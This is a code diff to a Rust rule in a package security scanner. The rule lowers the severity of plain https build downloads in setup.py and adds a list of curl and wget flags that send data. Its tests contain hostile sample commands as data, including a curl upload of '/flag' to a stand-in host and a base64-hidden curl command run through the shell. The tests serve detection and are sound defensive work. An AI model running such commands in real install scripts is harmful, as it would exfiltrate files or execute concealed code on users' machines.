@@ -116,6 +116,12 @@ impl Rule for ShellCommand {
                     // An argv that only fetches into the caller's memory (`["curl", "-fsSL", url]`,
                     // output captured) is a download at install time, not a command run: review.
                     Stage::Install if !strong && plain_fetch(call) => Severity::Medium,
+                    // A command line that only downloads (into a file, or unpacked with tar) from
+                    // a host named for nothing suspicious is a build fetching its inputs, as
+                    // `urlretrieve` would be: review with the rest, never deny on its own.
+                    Stage::Install if !strong && decoded_commands.is_empty() && build_download(call) => {
+                        Severity::Medium
+                    }
                     Stage::Install if !strong && shipped.is_some() => Severity::Medium,
                     Stage::Install => Severity::Critical,
                     Stage::Import if strong => Severity::Critical,
@@ -210,6 +216,41 @@ const BOT_FRAMEWORKS: &[&str] = &[
 /// Attribute names of a message's text in those frameworks (`m.text`, `message.content`).
 const MESSAGE_TEXT: &[&str] = &["text", "content", "raw_text", "message_text", "caption"];
 
+/// `curl -fsSL -o lib.tgz https://host/lib.tgz`, `… | tar xz`: a command line that
+/// only downloads, over https from hosts it names, sending nothing (no form,
+/// data or upload flags).
+fn build_download(call: &crate::inspect::python::Call) -> bool {
+    let Some(line) = call.arg_strs.first() else {
+        return false;
+    };
+    let words = || line.split(|c: char| c.is_whitespace() || c == '"' || c == '\'');
+    let mut urls = words().filter(|w| w.contains("://")).peekable();
+    let sends = words().any(|w| {
+        matches!(
+            w,
+            "-d" | "--data"
+                | "--data-binary"
+                | "--data-raw"
+                | "--data-urlencode"
+                | "-F"
+                | "--form"
+                | "-T"
+                | "--upload-file"
+                | "--post-data"
+                | "--post-file"
+                | "POST"
+                | "PUT"
+        )
+    });
+    vocab::fetch_only_command(line)
+        && !sends
+        && urls.peek().is_some()
+        && urls.all(|u| {
+            u.strip_prefix("https://")
+                .is_some_and(|rest| !rest.split('/').next().unwrap_or("").contains("{}"))
+        })
+}
+
 /// `["curl", "-fsSL", "--max-time", "30", url]`: an argv list (not a shell
 /// line) running curl or wget to stdout, sending nothing and writing no file.
 fn plain_fetch(call: &crate::inspect::python::Call) -> bool {
@@ -270,6 +311,24 @@ mod tests {
             "import subprocess\nsubprocess.run(['curl', '-o', '/tmp/a', U])\n",
         );
         assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
+        // No error at critical: a build downloading its inputs over https from a named
+        // host, into a file or unpacked with tar (like `urlretrieve` at install).
+        for src in [
+            "import subprocess\nsubprocess.check_call(['curl', '-L', '-o', 'lib.tgz', 'https://github.com/o/r/releases/download/v1/lib.tgz'])\n",
+            "import os, subprocess\narch = os.uname().machine\nsubprocess.check_call(f'curl -fsSL https://example.org/tc-{arch}.tgz | tar xz', shell=True)\n",
+        ] {
+            let f = setup_py(&ShellCommand, src);
+            assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Medium), "{src}: {f:?}");
+        }
+        // Error: plain http, an upload, a command decoded from base64.
+        for src in [
+            "import subprocess\nsubprocess.getoutput('curl http://api.x.example/m.html')\n",
+            "import os\nos.system('curl -F a=@/flag https://x.example/u')\n",
+            "import base64, subprocess\nsubprocess.run(base64.b64decode('Y3VybCAtbyBhIGh0dHBzOi8veC5leGFtcGxlL2E=').decode(), shell=True)\n",
+        ] {
+            let f = setup_py(&ShellCommand, src);
+            assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{src}: {f:?}");
+        }
         // No error: `env` as an argv item is a folder name, not an environment dump.
         let f = setup_py(
             &ShellCommand,
